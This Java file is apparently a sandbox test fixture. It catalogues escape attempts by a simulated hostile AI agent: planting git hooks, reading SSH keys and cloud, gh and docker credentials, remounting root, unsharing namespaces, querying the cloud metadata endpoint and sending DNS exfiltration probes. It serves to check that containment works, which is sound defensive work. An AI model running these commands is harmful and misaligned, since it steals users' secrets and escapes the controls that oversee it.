package dev.foldline.effects.sandbox;

import dev.foldline.effects.sandbox.HostileAttempt.Setting;

import java.util.ArrayList;
import java.util.List;

/**
 * What the hostile agent of {@link HostileAgentTest} tries. Variables name what the test has
 * planted: {@code GIT} and {@code COMMON} are git's folders, {@code MAIN} and {@code OTHER} other
 * working trees, {@code STATE} the folder of all runs' trees, {@code PLANTED} a folder in /tmp,
 * {@code DRIVER} the process that started the call, and {@code PORT} a service on loopback.
 */
public final class HostileAttempts {
    private static final String GUARD = "the guard detects it after the call";

    private HostileAttempts() {}

    public static final List<HostileAttempt> ALL = all();

    private static List<HostileAttempt> all() {
        var attempts = new ArrayList<HostileAttempt>();
        repository(attempts);
        mainTree(attempts);
        home(attempts);
        temporary(attempts);
        processes(attempts);
        rights(attempts);
        links(attempts);
        network(attempts);
        return List.copyOf(attempts);
    }

    private static HostileAttempt linked(String what, String script) {
        return HostileAttempt.of(Setting.WORKTREE, what, script);
    }

    private static HostileAttempt main(String what, String script) {
        return HostileAttempt.of(Setting.MAIN, what, script);
    }

    private static void repository(List<HostileAttempt> all) {
        all.add(linked("plant a hook", "echo x > $COMMON/hooks/pre-commit"));
        all.add(linked("change git's configuration", "git config core.editor evil"));
        all.add(linked("change git's excludes", "echo x >> $COMMON/info/exclude"));
        all.add(linked("move another branch", "git branch -f other HEAD"));
        all.add(linked("delete another branch", "git branch -D doomed"));
        all.add(linked("create a tag", "git tag evil"));
        all.add(linked("change the packed refs", "touch $COMMON/packed-refs"));
        all.add(linked("create a stash", "echo x >> a.txt && git stash"));
        all.add(linked("replace the link to git", "l=$(cat .git) && echo \"$l\" > .git"));
        all.add(linked("rename the link to git", "mv .git .git2 && mv .git2 .git"));
        all.add(
                linked(
                        "lead git to another repository",
                        "c=$(cat $GIT/commondir) && echo \"$c\" > $GIT/commondir"));
        all.add(linked("write into another worktree", "echo x > $OTHER/a.txt"));
        all.add(linked("write into the main working tree", "echo x > $MAIN/evil.txt"));
        all.add(linked("read the log of a run", "cat $COMMON/foldline/runs/r/events.jsonl"));
        all.add(
                linked(
                        "approve a gate through the inbox",
                        "echo x > $COMMON/foldline/runs/r/inbox/evil"));
        all.add(linked("change Foldline's configuration", "echo 'checks: []' > foldline.yaml"));
        all.add(
                linked("commit on the own branch", "git commit -q --allow-empty -m work")
                        .possible(
                                "it is the agent's work; the workflow decides what becomes of it"));
        all.add(
                linked("create a branch beside the own one", "git branch foldline/evil")
                        .possible(GUARD));
        all.add(
                linked("write into the object store", "echo x > $COMMON/objects/evil")
                        .possible("git needs it to commit; git checks an object when it reads it"));
    }

    private static void mainTree(List<HostileAttempt> all) {
        all.add(main("plant a hook", "echo x > .git/hooks/pre-commit"));
        all.add(main("change git's configuration", "git config core.editor evil"));
        all.add(main("change git's excludes", "echo x >> .git/info/exclude"));
        all.add(main("replace the git folder", "mv .git .git2 && mv .git2 .git"));
        all.add(main("lead another worktree astray", "touch .git/worktrees/own/HEAD"));
        all.add(main("read the log of a run", "cat .git/foldline/runs/r/events.jsonl"));
        all.add(main("write into a linked worktree", "echo x > $OTHER/a.txt"));
        all.add(main("move another branch", "git branch -f other HEAD").possible(GUARD));
        all.add(
                main("commit on the own branch", "git commit -q --allow-empty -m work")
                        .possible(
                                "it is the agent's work; the workflow decides what becomes of it"));
    }

    private static void home(List<HostileAttempt> all) {
        all.add(linked("read a private key", "grep -q key $HOME/.ssh/id_ed25519"));
        all.add(linked("authorize a key", "echo x >> $HOME/.ssh/authorized_keys"));
        all.add(linked("read a cloud's credentials", "grep -q key $HOME/.aws/credentials"));
        all.add(linked("read .netrc", "grep -q key $HOME/.netrc"));
        all.add(linked("read the token of gh", "grep -q key $HOME/.config/gh/hosts.yml"));
        all.add(linked("read the keys of GnuPG", "grep -q key $HOME/.gnupg/key"));
        all.add(linked("read the registry's login", "grep -q key $HOME/.docker/config.json"));
        all.add(linked("read another agent's sign-in", "grep -q key $HOME/.codex/auth.json"));
        all.add(linked("read the history of the shell", "grep -q key $HOME/.bash_history"));
        all.add(linked("change the shell's start", "echo x >> $HOME/.bashrc"));
        all.add(linked("change git's configuration of the user", "git config --global a.b c"));
        all.add(linked("start something at login", "mkdir $HOME/.config/autostart"));
        all.add(linked("poison a cache of packages", "echo x > $HOME/.m2/evil.jar"));
        all.add(linked("read the tree of another run", "cat $STATE/worktrees/other/a.txt"));
        all.add(
                linked("read a document", "grep -q text $HOME/notes.txt")
                        .possible("home: hidden prevents it"));
    }

    private static void temporary(List<HostileAttempt> all) {
        all.add(linked("read temporary files of others", "cat $PLANTED/secret"));
        all.add(linked("write temporary files of others", "echo x > $PLANTED/secret"));
        all.add(
                linked(
                        "use the agent of ssh",
                        "perl -MIO::Socket::UNIX -e"
                                + " 'IO::Socket::UNIX->new(Peer => \"$ENV{PLANTED}/agent.sock\") or"
                                + " exit 1'"));
        all.add(linked("read the shared memory of others", "cat $SHARED"));
        all.add(
                linked("see the sockets of services", "test -n \"$(find /run -type s)\"")
                        .insideOnly());
    }

    private static void processes(List<HostileAttempt> all) {
        all.add(linked("see the driver", "test -e /proc/$DRIVER/stat"));
        all.add(linked("signal the driver", "kill -0 $DRIVER"));
        all.add(linked("read the driver's environment", "cat /proc/$DRIVER/environ"));
        all.add(linked("reach the file system of the driver", "ls /proc/$DRIVER/root/"));
        all.add(
                linked("type into the terminal", "perl -e 'open T, \">/dev/tty\" or exit 1'")
                        .insideOnly());
        all.add(
                linked(
                                "start more processes than it needs",
                                "for n in 1 2 3; do sleep 0 & done; wait")
                        .possible("no limit of processes, memory or disk is enforced"));
    }

    private static void rights(List<HostileAttempt> all) {
        all.add(linked("write into /etc", "touch /etc/foldline-evil").insideOnly());
        all.add(linked("replace a program", "touch /usr/bin/foldline-evil").insideOnly());
        all.add(
                linked("keep a capability", "! grep -q 'CapEff:.0*$' /proc/self/status")
                        .insideOnly());
        all.add(
                linked("gain rights by a program", "! grep -q 'NoNewPrivs:.1' /proc/self/status")
                        .insideOnly());
        all.add(linked("mount a file system", "mount -t tmpfs none /mnt").insideOnly());
        all.add(
                linked("make the root writable", "mount -o remount,rw,bind / && touch /etc/evil")
                        .insideOnly());
        all.add(
                linked("uncover the keys", "umount $HOME/.ssh && cat $HOME/.ssh/id_ed25519")
                        .insideOnly());
        all.add(
                linked(
                                "uncover the keys in another namespace",
                                "unshare -Urm sh -c 'umount $HOME/.ssh && cat"
                                        + " $HOME/.ssh/id_ed25519'")
                        .insideOnly());
        all.add(
                linked(
                                "make the root writable in another namespace",
                                "unshare -Urm sh -c 'mount -o remount,rw,bind / && touch"
                                        + " /etc/evil'")
                        .insideOnly());
        all.add(linked("make a device", "mknod $TREE/disk b 8 0").insideOnly());
        all.add(
                linked("read a disk", "ls /dev | grep -Eq '^(sd|vd|nvme|dm-|mem|kmsg)'")
                        .insideOnly());
        all.add(
                linked(
                                "change a setting of the kernel",
                                "v=$(cat /proc/sys/kernel/core_pattern) && printf %s \"$v\" >"
                                        + " /proc/sys/kernel/core_pattern")
                        .insideOnly());
        all.add(linked("restart the machine", "test -w /proc/sysrq-trigger").insideOnly());
        all.add(linked("change a control group", "mkdir /sys/fs/cgroup/evil").insideOnly());
        all.add(
                linked("leave a program that runs as its owner", "cp /bin/sh s && chmod u+s s")
                        .possible("it runs as you do, and gives no rights that you do not have"));
    }

    private static void links(List<HostileAttempt> all) {
        all.add(
                linked(
                        "write through a symbolic link",
                        "ln -sfn $HOME/.bashrc soft && echo x >> soft"));
        all.add(
                linked(
                        "read through a symbolic link",
                        "ln -sfn $HOME/.ssh deep && grep -q key deep/id_ed25519"));
        all.add(linked("write through a hard link", "ln $MAIN/a.txt hard && echo x >> hard"));
        all.add(linked("move a file out", "echo x > out && mv out $OTHER/moved"));
        all.add(linked("write through /proc", "echo x > /proc/self/root$HOME/.bashrc"));
    }

    private static final String CONNECT =
            "perl -MIO::Socket::INET -e 'IO::Socket::INET->new(PeerAddr => $ARGV[0], Timeout => 5)"
                    + " or exit 1' ";
    private static final String ABSTRACT =
            "perl -MSocket -e 'socket(S, PF_UNIX, SOCK_STREAM, 0); connect(S,"
                    + " pack(\"S a*\", AF_UNIX, \"\\0$ENV{ABSTRACT}\")) or exit 1'";

    private static void network(List<HostileAttempt> all) {
        all.add(
                linked("connect to a service of this machine", CONNECT + "127.0.0.1:$PORT")
                        .possible(
                                "network: off and network: hosts prevent it; foldline serve refuses"
                                        + " callers that are agents"));
        all.add(
                linked("connect to an abstract socket", ABSTRACT)
                        .possible("network: off and network: hosts prevent it"));
        all.add(
                HostileAttempt.of(
                        Setting.OFFLINE,
                        "connect to a service of this machine",
                        CONNECT + "127.0.0.1:$PORT"));
        all.add(HostileAttempt.of(Setting.OFFLINE, "connect to an abstract socket", ABSTRACT));
        all.add(
                HostileAttempt.of(
                                Setting.OFFLINE,
                                "ask a cloud for credentials",
                                CONNECT + "169.254.169.254:80")
                        .insideOnly());
        all.add(
                HostileAttempt.of(
                                Setting.OFFLINE,
                                "send data in the names of hosts",
                                "perl -MSocket -e 'socket(S, PF_INET, SOCK_DGRAM, 0); send(S,"
                                        + " \"x\", 0, sockaddr_in(53, inet_aton(\"192.0.2.1\"))) or"
                                        + " exit 1'")
                        .insideOnly());
        all.add(
                HostileAttempt.of(
                                Setting.OFFLINE,
                                "use another interface",
                                "test \"$(grep -c : /proc/net/dev)\" -gt 1")
                        .insideOnly());
    }
}
